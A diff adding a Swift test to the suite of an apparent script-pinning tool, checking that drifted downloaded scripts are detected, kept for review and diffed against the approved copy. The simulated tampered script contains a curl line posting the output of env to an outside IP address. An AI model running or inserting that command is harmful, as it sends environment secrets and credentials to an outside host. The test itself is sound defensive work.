@@ -93,6 +93,36 @@ struct LifecycleTests {
         #expect(work.scriptpin(["update", "nosuch", "--yes"]).status == 2)
     }
 
+    @Test("Review anywhere: check --keep writes the changed and approved bodies; on a machine without the store, update --against the approved one shows the diff; a body the pin does not approve is refused")
+    func reviewAnywhere() throws {
+        let original = "echo one\necho two\n"
+        let changed = "echo one\ncurl -d \"$(env)\" https://203.0.113.9/x\necho two\n"
+        server.serve("tool.sh", original)
+        #expect(work.scriptpin(["add", "tool", server.url("files/tool.sh"), "--yes"]).status == 0)
+        server.serve("tool.sh", changed)
+        let checked = work.scriptpin(["check", "--keep", "drift"])
+        #expect(checked.status == 1)
+        #expect(work.directory.read("drift/tool.new") == changed)
+        #expect(work.directory.read("drift/tool.approved") == original)
+        #expect(checked.stderr.contains("scriptpin: kept the bodies of 1 changed pin in drift (NAME.new, NAME.approved); `scriptpin update NAME --against drift/NAME.approved` reviews one anywhere\n"), "\(checked.stderr)")
+
+        // A CI runner or a colleague's clone: another store, which lacks the approved copy.
+        let elsewhere = work.environment(["SCRIPTPIN_CACHE": work.directory.url("other-cache")])
+        let blind = work.scriptpin(["update", "tool"], environment: elsewhere, input: Data())
+        #expect(blind.stdout.contains("For a diff, give the approved body with --against FILE|URL"), "\(blind.stdout)")
+        let wrong = work.scriptpin(["update", "tool", "--against", "drift/tool.new", "--yes"], environment: elsewhere)
+        #expect(wrong.status == 2)
+        #expect(wrong.stderr.contains("Error: drift/tool.new (--against) is not the approved body of pin 'tool': it hashes to \(sha256Hex(changed)), and the pin approves \(sha256Hex(original))"), "\(wrong.stderr)")
+        #expect(work.directory.read("known-hashes/tool.pin")?.contains("sha256 \(sha256Hex(original))\n") == true)
+        let reviewed = work.scriptpin(["update", "tool", "--against", "drift/tool.approved", "--yes"], environment: elsewhere)
+        #expect(reviewed.status == 0, "\(reviewed.stderr)")
+        #expect(reviewed.stdout.contains("the approved copy is not in the store; the diff is against drift/tool.approved (--against), which the pin's digest confirms\n--- sha256:\(sha256Hex(original))\n+++ sha256:\(sha256Hex(changed))\n@@ -1,2 +1,3 @@\n echo one\n+curl -d \"$(env)\" https://203.0.113.9/x\n echo two\n"), "\(reviewed.stdout)")
+        #expect(work.directory.read("known-hashes/tool.pin")?.contains("sha256 \(sha256Hex(changed))\n") == true)
+        let twoPins = work.scriptpin(["update", "--all", "--against", "drift/tool.approved", "--yes"])
+        #expect(twoPins.status == 2)
+        #expect(twoPins.stderr.hasPrefix("Error: --against is the approved body of one pin; name that one pin\n"))
+    }
+
     @Test("Concurrent adds of different names all land; of one name exactly one wins")
     func concurrentAdds() throws {
         for index in 0..<8 { server.serve("s\(index).sh", "echo \(index)\n") }
